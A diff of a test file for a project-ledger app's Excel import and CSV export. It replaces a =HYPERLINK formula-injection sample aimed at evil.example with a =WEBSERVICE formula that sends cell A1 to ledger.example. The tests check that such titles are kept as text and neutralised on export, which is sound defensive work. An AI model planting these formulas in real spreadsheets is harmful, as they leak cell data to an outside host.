@@ -177,7 +177,7 @@ describe('the messy ledger: merged title rows, blank rows, full-width digits, tr
     expect(stored.get('2')).toMatchObject({ title: '解放路下水道疏通', status: 'completed', unit_name: UNIT, reported_on: '2024-02-03', completed_on: '2024-02-20', households_benefited: 45 });
     expect(stored.get('3')).toMatchObject({ kind: 'charging', lon: 112.613, lat: 26.9012, reported_on: '2024-04-08', unit_name: null });
     // Text that looks like a formula is kept as text; a formula cell gives the value Excel showed.
-    expect(stored.get('9')!.title).toBe('=HYPERLINK("http://evil.example/?x="&A1,"点我")');
+    expect(stored.get('9')!.title).toBe('=WEBSERVICE("http://ledger.example/?x="&A1)');
     expect(stored.get('10')!.title).toBe('东风路路灯维修');
 
     const history = (await planner.inject(`/api/projects/${stored.get('1')!.id}/history`)).json<{ action: string; note: string; actor: string }[]>();
@@ -186,9 +186,9 @@ describe('the messy ledger: merged title rows, blank rows, full-width digits, tr
 
   it('neutralises the formula-like title on the way out to Excel', async () => {
     const id = (await projectsOfLedger(LEDGER)).get('9')!.id;
-    const csv = (await planner.inject(`/api/projects/export?format=csv&q=${encodeURIComponent('evil.example')}`)).body;
-    expect(csv).toContain(`'=HYPERLINK(`);
-    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const csv = (await planner.inject(`/api/projects/export?format=csv&q=${encodeURIComponent('ledger.example')}`)).body;
+    expect(csv).toContain(`'=WEBSERVICE(`);
+    expect(csv).not.toMatch(/(^|,)"?=WEBSERVICE/m);
     expect(id).toBeGreaterThan(0);
   });
 
